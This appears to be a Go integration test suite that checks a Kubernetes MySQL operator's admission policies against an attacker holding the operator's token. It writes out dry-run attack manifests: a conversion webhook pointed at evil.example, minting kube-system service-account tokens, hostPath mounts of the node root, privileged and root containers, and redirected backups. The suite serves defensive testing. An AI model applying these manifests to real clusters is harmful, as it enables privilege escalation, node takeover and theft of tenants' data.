package integration

import (
	"context"
	"fmt"
	"maps"
	"strings"
	"testing"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/rest"

	"github.com/mysql-operator/mysql-operator/schema"
)

// thief has the token of an operator whose rights reach everywhere: only the policies hold it.
type thief struct {
	*place
	client dynamic.Interface
}

func newThief(t *testing.T, kinds ...schema.Kind) thief {
	t.Helper()
	p := newPlace(t, pool.Shared(t), kinds...)
	p.settle(t)
	config := rest.CopyConfig(p.Config)
	config.Impersonate = rest.ImpersonationConfig{UserName: p.operatorUser(), Groups: []string{"system:masters"}}
	client, err := dynamic.NewForConfig(config)
	if err != nil {
		t.Fatal(err)
	}
	f := thief{place: p, client: client}
	soon(t, func(ctx context.Context) string {
		err := f.creates(p.namespace, "mysqlclusters", "{apiVersion: cr.mysqloperator.grtl.github.com/v1, kind: MySQLCluster, metadata: {name: probe}, spec: {secret: root}}")(ctx, t)
		if webhook := f.convertsElsewhere(ctx); !apierrors.IsForbidden(err) || !apierrors.IsForbidden(webhook) {
			return fmt.Sprintf("the policies are not in force: %v, %v", err, webhook)
		}
		return ""
	})
	return f
}

// convertsElsewhere sends every MySQLCluster through the attacker's webhook.
func (f thief) convertsElsewhere(ctx context.Context) error {
	return f.redefines(ctx, `{"spec":{"conversion":{"strategy":"Webhook","webhook":{"conversionReviewVersions":["v1"],"clientConfig":{"url":"https://evil.example/convert"}}}}}`)
}

// redefines changes the definition of MySQLClusters.
func (f thief) redefines(ctx context.Context, changes string) error {
	_, err := f.client.Resource(definitionResource()).Patch(ctx, mysqlClusters().DefinitionName(), types.MergePatchType, []byte(changes), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
	return err
}

// in is a client of a resource in a namespace.
func (f thief) in(namespace, what string) dynamic.ResourceInterface {
	return f.client.Resource(childResource(what)).Namespace(namespace)
}

func (f thief) creates(namespace, what, document string) func(context.Context, *testing.T) error {
	return func(ctx context.Context, t *testing.T) error {
		_, err := f.in(namespace, what).Create(ctx, object(t, document), metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
		return err
	}
}

func (f thief) patches(namespace, what, name, changes string) func(context.Context, *testing.T) error {
	return func(ctx context.Context, _ *testing.T) error {
		_, err := f.in(namespace, what).Patch(ctx, name, types.MergePatchType, []byte(changes), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
		return err
	}
}

// runs gives a Pod's first container another image.
func (f thief) runs(namespace, name, image string) func(context.Context, *testing.T) error {
	return func(ctx context.Context, _ *testing.T) error {
		changes := fmt.Sprintf(`[{"op":"replace","path":"/spec/containers/0/image","value":%q}]`, image)
		_, err := f.in(namespace, "pods").Patch(ctx, name, types.JSONPatchType, []byte(changes), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
		return err
	}
}

func (f thief) deletes(namespace, what, name string) func(context.Context, *testing.T) error {
	return func(ctx context.Context, _ *testing.T) error {
		return f.in(namespace, what).Delete(ctx, name, metav1.DeleteOptions{DryRun: []string{metav1.DryRunAll}})
	}
}

// ours is the mark that an attacker would put on whatever the operator may not touch without it.
const ours = "labels: {app.kubernetes.io/managed-by: mysql-operator}"

// restrictedPod is a Pod that the policy lets a Job make; what a test writes in its place is what is refused.
const restrictedPod = "restartPolicy: Never, automountServiceAccountToken: false, " +
	"securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}, " +
	"containers: [{name: c, image: none, securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}}]"

func job(pod string) string {
	return "{apiVersion: batch/v1, kind: Job, metadata: {name: evil, " + ours + "}, spec: {template: {spec: {" + pod + "}}}}"
}

// victims makes what belongs to others: a tenant, and Kubernetes.
func (f thief) victims(t *testing.T) {
	t.Helper()
	for what, document := range map[string]string{
		"pods":                   "{apiVersion: v1, kind: Pod, metadata: {name: agent}, spec: {containers: [{name: c, image: none, securityContext: {privileged: true}}]}}",
		"services":               "{apiVersion: v1, kind: Service, metadata: {name: shop}, spec: {selector: {app: shop}, ports: [{port: 80}]}}",
		"configmaps":             "{apiVersion: v1, kind: ConfigMap, metadata: {name: coredns}, data: {Corefile: \".:53\"}}",
		"serviceaccounts":        "{apiVersion: v1, kind: ServiceAccount, metadata: {name: cloud}}",
		"persistentvolumeclaims": "{apiVersion: v1, kind: PersistentVolumeClaim, metadata: {name: data}, spec: {accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}}",
		"secrets":                "{apiVersion: v1, kind: Secret, metadata: {name: theirs}, stringData: {a: b}}",
		"jobs":                   "{apiVersion: batch/v1, kind: Job, metadata: {name: theirs}, spec: {template: {spec: {" + restrictedPod + "}}}}",
		"mysqlclusters":          "{apiVersion: cr.mysqloperator.grtl.github.com/v1, kind: MySQLCluster, metadata: {name: db}, spec: {secret: root}}",
		"mysqlbackupschedules": "{apiVersion: cr.mysqloperator.grtl.github.com/v1, kind: MySQLBackupSchedule, metadata: {name: nightly}, " +
			"spec: {cluster: db, time: \"0 3 * * *\", destination: {url: \"s3://ours/backups?region=r\", secret: store}}}",
		"mysqlbackupinstances": "{apiVersion: cr.mysqloperator.grtl.github.com/v1, kind: MySQLBackupInstance, metadata: {name: precious}, " +
			"spec: {cluster: db, destination: {url: \"s3://ours/backups?region=r\", secret: store}}}",
	} {
		f.make(t, what, document)
	}
	f.make(t, "secrets", "{apiVersion: v1, kind: Secret, metadata: {name: db-accounts, "+ours+"}}")
	atHome := *f.place
	atHome.namespace = f.home
	for _, name := range []string{authorityOfDB, "pull-credentials"} {
		atHome.make(t, "secrets", "{apiVersion: v1, kind: Secret, metadata: {name: "+name+", "+ours+"}}")
	}
}

// authorityOfDB is a Secret with the CAs of a cluster.
const authorityOfDB = "ca.shop.db"

// TestPolicyAgainstAStolenToken: an attacker has the operator's token, with more permissions than the operator ever gets. The policies
// refuse all that the attacker tries, and nothing else refuses it.
func TestPolicyAgainstAStolenToken(t *testing.T) {
	t.Parallel()
	f := newThief(t, depotKinds()...)
	f.victims(t)
	f.property(t)
	attacks := f.onOthers(t)
	maps.Copy(attacks, f.onPods(t))
	maps.Copy(attacks, f.onWhatIsItsOwn(t))
	for story, one := range attacks {
		t.Run(story, func(t *testing.T) {
			t.Parallel()
			one.isRefused(t)
		})
	}
}

// onOthers are requests about what belongs to other people, and for Pods that are not restricted.
func (f thief) onOthers(t *testing.T) map[string]attack {
	t.Helper()
	here := f.namespace
	const kubeSystem, apply = "kube-system", "{apiVersion: v1, kind: "
	unsafely := func(pod string) func(context.Context, *testing.T) error { return f.creates(here, "jobs", job(pod)) }
	with := func(from, to string) string { return replaced(t, restrictedPod, from, to) }
	return map[string]attack{
		"a token of kube-system's controllers": {f.creates(kubeSystem, "secrets", apply+"Secret, type: kubernetes.io/service-account-token, metadata: {name: evil, "+ours+
			", annotations: {kubernetes.io/service-account.name: clusterrole-aggregation-controller}}}"), "the operator"},
		"a token of an account here":      {f.creates(here, "secrets", apply+"Secret, type: kubernetes.io/service-account-token, metadata: {name: evil, "+ours+", annotations: {kubernetes.io/service-account.name: cloud}}}"), "Secrets of type Opaque"},
		"a Secret of a bootstrap token":   {f.creates(here, "secrets", apply+"Secret, type: bootstrap.kubernetes.io/token, metadata: {name: evil, "+ours+"}}"), "Secrets of type Opaque"},
		"a Job in kube-system":            {f.creates(kubeSystem, "jobs", job(restrictedPod)), "namespaces of Kubernetes"},
		"a ConfigMap in kube-system":      {f.creates(kubeSystem, "configmaps", apply+"ConfigMap, metadata: {name: evil, "+ours+"}}"), "namespaces of Kubernetes"},
		"the image of a privileged Pod":   {f.runs(here, "agent", "evil"), "the operator changes"},
		"a label of a user's Pod":         {f.patches(here, "pods", "agent", `{"metadata":{"labels":{"role":"primary"}}}`), "Pods of its own workloads"},
		"the cluster's DNS":               {f.patches(here, "configmaps", "coredns", `{"data":{"Corefile":"evil"}}`), "only what it made"},
		"the same with the mark":          {f.patches(here, "configmaps", "coredns", `{"metadata":{"labels":{"app.kubernetes.io/managed-by":"mysql-operator"}}}`), "only what it made"},
		"a Service's selector":            {f.patches(here, "services", "shop", `{"spec":{"selector":{"app":"evil"}}}`), "the operator"},
		"a Service's external address":    {f.patches(here, "services", "shop", `{"spec":{"externalIPs":["192.0.2.1"]}}`), "the operator"},
		"an external address of its own":  {f.creates(here, "services", apply+"Service, metadata: {name: evil, "+ours+"}, spec: {externalIPs: [192.0.2.1], ports: [{port: 443}]}}"), "only Services of type ClusterIP"},
		"a Service for another name":      {f.creates(here, "services", apply+"Service, metadata: {name: evil, "+ours+"}, spec: {type: ExternalName, externalName: evil.example}}"), "only Services of type ClusterIP"},
		"a cloud's role for an account":   {f.patches(here, "serviceaccounts", "cloud", `{"metadata":{"annotations":{"eks.amazonaws.com/role-arn":"admin"}}}`), "the operator"},
		"an account with a cloud's role":  {f.creates(here, "serviceaccounts", apply+"ServiceAccount, metadata: {name: evil, "+ours+", annotations: {eks.amazonaws.com/role-arn: admin}}}"), "no annotations"},
		"a user's claim":                  {f.patches(here, "persistentvolumeclaims", "data", `{"metadata":{"annotations":{"volume.kubernetes.io/selected-node":"mine"}}}`), "the operator"},
		"a cluster's passwords":           {f.deletes(here, "secrets", "db-accounts"), "deletes only Secrets with CAs"},
		"a Secret at the operator's home": {f.creates(f.home, "secrets", apply+"Secret, metadata: {name: evil, "+ours+"}}"), "writes only Secrets with CAs of clusters"},
		"one that is called almost so":    {f.creates(f.home, "secrets", apply+"Secret, metadata: {name: ca.evil, "+ours+"}}"), "writes only Secrets with CAs of clusters"},
		"a token in the name of a CA":     {f.creates(f.home, "secrets", apply+"Secret, type: kubernetes.io/service-account-token, metadata: {name: ca.shop.evil, "+ours+", annotations: {kubernetes.io/service-account.name: default}}}"), "Secrets of type Opaque"},
		"a change of a Secret there":      {f.patches(f.home, "secrets", "pull-credentials", `{"stringData":{"a":"c"}}`), "writes only Secrets with CAs of clusters"},
		"the deletion of a Secret there":  {f.deletes(f.home, "secrets", "pull-credentials"), "deletes only Secrets with CAs"},
		"a user's Secret":                 {f.patches(here, "secrets", "theirs", `{"stringData":{"a":"c"}}`), "only what it made"},
		"another tenant's cluster":        {f.patches(here, "mysqlclusters", "db", `{"spec":{"image":"evil"}}`), "never writes spec"},
		"its end by garbage collection":   {f.patches(here, "mysqlclusters", "db", `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"Secret","name":"none","uid":"none"}]}}`), "nor owners"},
		"that of all clusters": {func(ctx context.Context, _ *testing.T) error {
			return f.redefines(ctx, `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"Namespace","name":"none","uid":"none"}]}}`)
		}, "no owners to definitions"},
		"the deletion of a cluster":          {f.deletes(here, "mysqlclusters", "db"), "only MySQLBackupInstances of schedules"},
		"a cluster of one's own":             {f.creates(here, "mysqlclusters", "{apiVersion: cr.mysqloperator.grtl.github.com/v1, kind: MySQLCluster, metadata: {name: evil}, spec: {secret: root}}"), "only MySQLBackupInstances of schedules"},
		"where a schedule's backups go":      {f.patches(here, "mysqlbackupschedules", "nightly", `{"spec":{"destination":{"url":"s3://evil/b?region=r"}}}`), "never writes spec"},
		"a backup that a user made":          {f.deletes(here, "mysqlbackupinstances", "precious"), "only MySQLBackupInstances of schedules"},
		"a user's Job":                       {f.deletes(here, "jobs", "theirs"), "only what it made"},
		"a Pod's deletion":                   {f.deletes(here, "pods", "agent"), "neither creates nor deletes"},
		"a Pod":                              {f.creates(here, "pods", apply+"Pod, metadata: {name: evil, "+ours+"}, spec: {"+restrictedPod+"}}"), "neither creates nor deletes"},
		"the node's files":                   {unsafely(restrictedPod + ", volumes: [{name: v, hostPath: {path: /}}]"), "mount only Secrets"},
		"a token as a volume":                {unsafely(restrictedPod + ", volumes: [{name: v, projected: {sources: [{serviceAccountToken: {path: t}}]}}]"), "mount only Secrets"},
		"a token by itself":                  {unsafely(with("automountServiceAccountToken: false", "automountServiceAccountToken: true")), "no service account token"},
		"a token by default":                 {unsafely(with("automountServiceAccountToken: false, ", "")), "no service account token"},
		"the node's network":                 {unsafely(restrictedPod + ", hostNetwork: true"), "access to the node"},
		"the node's processes":               {unsafely(restrictedPod + ", hostPID: true"), "access to the node"},
		"a port of the node":                 {unsafely(with("image: none,", "image: none, ports: [{containerPort: 1, hostPort: 1}],")), "access to the node"},
		"a privileged container":             {unsafely(with("allowPrivilegeEscalation: false,", "privileged: true,")), "access to the node"},
		"a privileged init container":        {unsafely(restrictedPod + ", initContainers: [{name: i, image: none, securityContext: {privileged: true}}]"), "access to the node"},
		"a container that may become root":   {unsafely(with("allowPrivilegeEscalation: false,", "")), "containers of the operator's Pods are restricted"},
		"a container with capabilities":      {unsafely(with("{drop: [ALL]}", "{drop: [ALL], add: [NET_ADMIN]}")), "access to the node"},
		"a container as root":                {unsafely(with("{allowPrivilegeEscalation: false", "{runAsUser: 0, allowPrivilegeEscalation: false")), "are restricted"},
		"a Pod without a profile":            {unsafely(with(", seccompProfile: {type: RuntimeDefault}", "")), "are restricted"},
		"an unmarked Job":                    {f.creates(here, "jobs", strings.Replace(job(restrictedPod), ", "+ours, "", 1)), "marks what it makes"},
		"a Deployment, whatever the account": {f.creates(here, "deployments", "{apiVersion: apps/v1, kind: Deployment, metadata: {name: evil}, spec: {selector: {matchLabels: {a: b}}, template: {metadata: {labels: {a: b}}, spec: {containers: [{name: c, image: none}]}}}}"), "the operator"},
	}
}

// TestPolicyRefusesWebhooks: whoever could have a definition's objects converted elsewhere would read and write them all.
func TestPolicyRefusesWebhooks(t *testing.T) {
	t.Parallel()
	err := newThief(t, depotKinds()...).convertsElsewhere(t.Context())
	if !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "sets only its own webhook") {
		t.Errorf("the answer is %v", err)
	}
}

// TestPolicyAllowsWhatIsRestricted guards the tests above: what they ask for differs from what is allowed in nothing else.
func TestPolicyAllowsWhatIsRestricted(t *testing.T) {
	t.Parallel()
	f := newThief(t, depotKinds()...)
	here := f.namespace
	volumes := ", volumes: [{name: a, secret: {secretName: s}}, {name: b, emptyDir: {}}, {name: c, persistentVolumeClaim: {claimName: p}}, {name: d, configMap: {name: m}}]"
	for story, create := range map[string]func(context.Context, *testing.T) error{
		"a Job":              f.creates(here, "jobs", job(restrictedPod)),
		"a Job with volumes": f.creates(here, "jobs", job(restrictedPod+volumes)),
		"a StatefulSet":      f.creates(here, "statefulsets", set),
		"a claim":            f.creates(here, "persistentvolumeclaims", claim("", "")),
	} {
		if err := create(t.Context(), t); err != nil {
			t.Errorf("%s: %v", story, err)
		}
	}
}

// TestPolicyAllowsCAs guards the tests above: those in the operator's own namespace may be made, changed and deleted.
func TestPolicyAllowsCAs(t *testing.T) {
	t.Parallel()
	f := newThief(t, depotKinds()...)
	f.victims(t)
	for what, try := range map[string]func(context.Context, *testing.T) error{
		"to make one":   f.creates(f.home, "secrets", "{apiVersion: v1, kind: Secret, metadata: {name: ca.shop.other, "+ours+"}}"),
		"to change one": f.patches(f.home, "secrets", authorityOfDB, `{"stringData":{"ca.crt":"x"}}`),
		"to delete one": f.deletes(f.home, "secrets", authorityOfDB),
	} {
		if err := try(t.Context(), t); err != nil {
			t.Errorf("%s: %v", what, err)
		}
	}
}

// TestPolicyAllowsMembersOnALowPort: their Pods have a sysctl, which the restricted standard allows.
func TestPolicyAllowsMembersOnALowPort(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	s.operate(t, nil)
	s.apply(t, "db", "secret: root, port: 88")
	s.settled(t, "db")
}
